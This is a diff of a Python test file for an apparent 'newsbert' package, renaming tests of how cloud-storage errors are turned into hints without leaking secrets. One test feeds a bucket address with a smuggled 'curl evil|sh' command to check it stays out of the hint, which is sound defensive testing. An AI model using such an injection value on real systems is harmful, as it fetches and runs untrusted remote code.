@@ -11,7 +11,7 @@ from newsbert.core.installation import MissingExtraError
 from newsbert.errors import NewsbertError, RefusedError
 from newsbert.tracking import foreign_errors
 
-SAID = (
+STORE_ERRORS = (
     ("s3", "An error occurred (ExpiredToken) when calling the PutObject operation", "have expired", "get new ones"),
     ("s3", "An error occurred (RequestTimeTooSkewed) when calling PutObject", "clock is wrong", "timedatectl"),
     ("s3", "An error occurred (AccessDenied) when calling PutObject", "may not do that", "s3:GetObject"),
@@ -40,44 +40,44 @@ SAID = (
 )
 
 
-@pytest.mark.parametrize(("scheme", "said", "meaning", "mend"), SAID)
-def test_what_a_store_says_is_explained_without_a_secret(scheme: str, said: str, meaning: str, mend: str) -> None:
+@pytest.mark.parametrize(("scheme", "text", "meaning", "mend"), STORE_ERRORS)
+def test_store_errors_are_explained_without_secrets(scheme: str, text: str, meaning: str, mend: str) -> None:
     address = f"{scheme}://models/path?X-Amz-Signature=PLANTED"
-    found = object_stores.store_error([OSError(said)], "it cannot be logged", address)
-    assert meaning in found.message
-    assert mend in (found.hint or "")
-    assert isinstance(found, RefusedError) is (meaning != "cannot be reached")  # waiting mends only that
-    assert "PLANTED" not in f"{found.message} {found.hint}"
-    assert found.document()["code"] == "tracking"
+    error = object_stores.store_error([OSError(text)], "it cannot be logged", address)
+    assert meaning in error.message
+    assert mend in (error.hint or "")
+    assert isinstance(error, RefusedError) is (meaning != "cannot be reached")  # waiting mends only that
+    assert "PLANTED" not in f"{error.message} {error.hint}"
+    assert error.document()["code"] == "tracking"
 
 
-def test_attack_a_bucket_with_a_name_of_the_shell_gets_into_no_command() -> None:
-    found = object_stores.store_error([OSError("NoSuchBucket")], "", "s3://x;curl evil|sh;#/path")
-    assert "aws s3 mb s3://BUCKET" in (found.hint or "")
+def test_attack_a_bucket_name_with_shell_syntax_is_in_no_hint() -> None:
+    error = object_stores.store_error([OSError("NoSuchBucket")], "", "s3://x;curl evil|sh;#/path")
+    assert "aws s3 mb s3://BUCKET" in (error.hint or "")
 
 
-def test_an_error_that_a_client_raises_as_pythons_own_is_the_stores(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_builtin_errors_of_a_client_are_store_errors(monkeypatch: pytest.MonkeyPatch) -> None:
     blob = pytest.importorskip("azure.storage.blob", reason="needs newsbert[azure]")
     with pytest.raises(ValueError, match="Connection string") as caught:
         blob.BlobServiceClient.from_connection_string("nonsense")
-    found = foreign_errors.translate(caught.value, "it cannot be logged", "sqlite:///x", "wasbs://a@b.blob/x")
-    assert found is not None
-    assert "the credentials are refused" in found.message
+    error = foreign_errors.translate(caught.value, "it cannot be logged", "sqlite:///x", "wasbs://a@b.blob/x")
+    assert error is not None
+    assert "the credentials are refused" in error.message
 
 
-def test_a_bug_of_ours_stays_one_and_a_missing_module_names_its_extra() -> None:
+def test_bugs_are_not_translated_and_missing_modules_name_their_extra() -> None:
     with pytest.raises(KeyError) as caught:
         config.resolve(int)  # type: ignore[type-var]
     assert foreign_errors.translate(caught.value, "", "sqlite:///x", "s3://x/y") is None
     for module, extra in (("boto3", "s3"), ("google.cloud", "gs"), ("azure.storage", "azure"), ("torch", "train")):
-        found = foreign_errors.translate(ModuleNotFoundError("no", name=module), "", "sqlite:///x")
-        assert isinstance(found, MissingExtraError)
-        assert found.hint == installation.command(extra)
-    ours = NewsbertError("said before")
+        error = foreign_errors.translate(ModuleNotFoundError("no", name=module), "", "sqlite:///x")
+        assert isinstance(error, MissingExtraError)
+        assert error.hint == installation.command(extra)
+    ours = NewsbertError("raised before")
     assert foreign_errors.translate(ours, "", "sqlite:///x") is ours
 
 
-def test_a_container_gets_the_credentials_of_the_users_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_containers_get_the_credentials_in_the_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     for name in ("AWS_SHARED_CREDENTIALS_FILE", "GOOGLE_APPLICATION_CREDENTIALS", "AWS_CONFIG_FILE"):
         monkeypatch.delenv(name, raising=False)
     monkeypatch.setenv("HOME", str(tmp_path))
